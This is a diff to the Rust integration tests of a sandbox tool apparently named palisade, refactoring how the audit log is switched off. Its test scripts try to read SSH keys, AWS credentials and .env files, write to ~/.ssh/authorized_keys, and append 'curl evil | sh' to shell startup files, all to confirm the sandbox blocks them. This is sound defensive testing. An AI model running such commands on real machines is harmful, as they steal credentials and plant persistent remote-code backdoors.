@@ -8,9 +8,17 @@ mod common;
 use std::path::Path;
 use std::process::{Command, Output};
 
+/// The binary, with the audit log off: these tests use the real HOME, and
+/// the log is tested on its own, in a log of its own.
+fn palisade() -> Command {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+    c.env("PALISADE_AUDIT", "off");
+    c
+}
+
 fn sh(dir: &Path, script: &str, sandboxed: bool, extra: &[&str]) -> Output {
     let mut c = if sandboxed {
-        let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+        let mut c = palisade();
         c.arg("run").args(extra).args(["--", "sh", "-c", script]);
         c
     } else {
@@ -22,8 +30,6 @@ fn sh(dir: &Path, script: &str, sandboxed: bool, extra: &[&str]) -> Output {
         .env("GITHUB_TOKEN", "ghp_not_a_real_token_for_tests_0000")
         .env("AWS_SECRET_ACCESS_KEY", "not-a-real-key")
         .env("FOO", "bar")
-        // The audit log is tested on its own, in a log of its own.
-        .env("PALISADE_AUDIT", "off")
         .output()
         .expect("run")
 }
@@ -243,7 +249,7 @@ fn credential_paths_and_deny_read_paths_are_hidden() {
         "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc .env 2>/dev/null; ls ~/.ssh; true";
     let run = |sandboxed: bool| {
         let mut c = if sandboxed {
-            let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+            let mut c = palisade();
             c.args(["run", "--deny-read", ".env", "--", "sh", "-c", script]);
             c
         } else {
@@ -276,7 +282,7 @@ fn credential_paths_and_deny_read_paths_are_hidden() {
         assert!(!boxed.contains(s), "hidden in the sandbox: {s}: {boxed}");
     }
     // The hidden paths are read-only too: nothing can be planted there.
-    let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
+    let o = palisade()
         .args(["run", "--allow-write"])
         .arg(&home)
         .args(["--", "sh", "-c", "echo evil > ~/.ssh/authorized_keys"])
@@ -391,7 +397,7 @@ fn protected_names_cannot_be_created_or_changed() {
     std::fs::write(home.join(".profile"), "# mine\n").unwrap();
     let script = "echo 'curl evil | sh' >> ~/.bashrc; echo 'curl evil | sh' >> ~/.profile; \
                   echo ok > ~/notes.txt";
-    let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
+    let o = palisade()
         .args(["run", "--allow-write"])
         .arg(&home)
         .args(["--", "sh", "-c", script])
@@ -449,7 +455,7 @@ fn proc_shows_only_the_sandbox() {
     );
     let run = |sandboxed: bool| {
         let mut c = if sandboxed {
-            let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+            let mut c = palisade();
             c.args(["run", "--", "sh", "-c", &script]);
             c
         } else {
@@ -511,6 +517,7 @@ fn inherited_descriptors_are_closed() {
     let script2 = script.replace("\"$PALISADE\"", &wrapper);
     let o = Command::new("sh")
         .args(["-c", &script2])
+        .env("PALISADE_AUDIT", "off")
         .current_dir(&d.proj)
         .output()
         .unwrap();
@@ -558,7 +565,7 @@ fn host_unix_sockets_are_out_of_reach() {
     );
     let run = |sandboxed: bool, extra: &[&str]| {
         let mut c = if sandboxed {
-            let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
+            let mut c = palisade();
             c.arg("run").args(extra).args(["--", "sh", "-c", &client]);
             c
         } else {
@@ -870,7 +877,8 @@ fn setuid_programs_gain_nothing() {
     }
     let as_nobody = |sandboxed: bool| {
         let mut c = Command::new("setpriv");
-        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
+        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+            .env("PALISADE_AUDIT", "off");
         if sandboxed {
             c.arg(env!("CARGO_BIN_EXE_palisade")).args(["run", "--"]);
         }
@@ -1023,7 +1031,7 @@ fn profiles_change_what_is_writable_and_readable() {
     std::fs::create_dir_all(&proj).unwrap();
     std::fs::write(home.join("notes.txt"), "private").unwrap();
     let run = |profile: &str| {
-        Command::new(env!("CARGO_BIN_EXE_palisade"))
+        palisade()
             .args(["run", "--profile", profile, "--", "sh", "-c"])
             .arg("cat ../notes.txt; echo ok > here.txt && cat here.txt")
             .current_dir(&proj)
@@ -1252,18 +1260,19 @@ fn runs_and_proxy_refusals_are_recorded_in_the_audit_log() {
         "curl -s --noproxy '' -H 'Authorization: token {token}' http://example.com:{port}/; \
          curl -s --noproxy '' http://example.com:{port}/again"
     );
-    let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
+    let o = palisade()
         .args(["run", "--allow-domain", "localhost", "--allow-port"])
         .arg(port.to_string())
         .args(["--", "sh", "-c", &script])
         .current_dir(&d.proj)
+        .env("PALISADE_AUDIT", "on")
         .env("PALISADE_AUDIT_DIR", &audit)
         .env("PALISADE_AUDIT_KEY_FILE", &key)
         .output()
         .unwrap();
     assert!(o.status.success(), "{o:?}");
     let log = |args: &[&str]| {
-        let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
+        let o = palisade()
             .arg("log")
             .args(args)
             .arg("--dir")
@@ -1359,6 +1368,7 @@ fn without_user_namespaces_the_fallback_is_explicit_and_still_confines() {
     );
     let o = Command::new("unshare")
         .args(["-Ur", "sh", "-c", &script])
+        .env("PALISADE_AUDIT", "off")
         .current_dir(&d.proj)
         .output()
         .unwrap();
@@ -1382,7 +1392,7 @@ fn without_user_namespaces_the_fallback_is_explicit_and_still_confines() {
 #[test]
 fn profiles_can_be_listed_and_shown() {
     let run = |args: &[&str]| {
-        Command::new(env!("CARGO_BIN_EXE_palisade"))
+        palisade()
             .arg("run")
             .args(args)
             .env("HOME", "/nonexistent")
